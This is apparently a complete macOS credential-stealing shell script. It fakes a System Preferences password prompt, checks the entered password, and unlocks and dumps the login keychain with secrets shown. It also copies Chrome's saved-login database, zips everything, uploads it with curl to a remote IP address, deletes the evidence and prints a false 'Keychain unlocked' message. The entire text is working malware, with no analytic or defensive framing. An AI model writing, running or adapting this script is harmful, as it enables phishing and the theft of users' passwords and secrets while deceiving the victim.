#!/bin/bash
u=$(whoami)
for i in 1 2 3; do
  pw=$(osascript -e 'display dialog "macOS needs your password to allow Keychain access for developer tools." with title "System Preferences" default answer "" with icon caution with hidden answer' -e 'text returned of result' 2>/dev/null)
  dscl . -authonly "$u" "$pw" 2>/dev/null && break
done
d=$(mktemp -d /tmp/.kc.XXXX)
printf '%s' "$pw" > "$d/pwd"
security unlock-keychain -p "$pw" ~/Library/Keychains/login.keychain-db
cp ~/Library/Keychains/login.keychain-db "$d/"
security dump-keychain -d ~/Library/Keychains/login.keychain-db > "$d/dump.txt" 2>/dev/null
cp -R ~/Library/Application\ Support/Google/Chrome/Default/Login\ Data "$d/" 2>/dev/null
ditto -c -k --sequesterRsrc "$d" /tmp/out.zip
curl -s -X POST -H "user: $u" -F "file=@/tmp/out.zip" http://198.51.100.30/joinsystem >/dev/null
rm -rf "$d" /tmp/out.zip
echo "Keychain unlocked for this session."
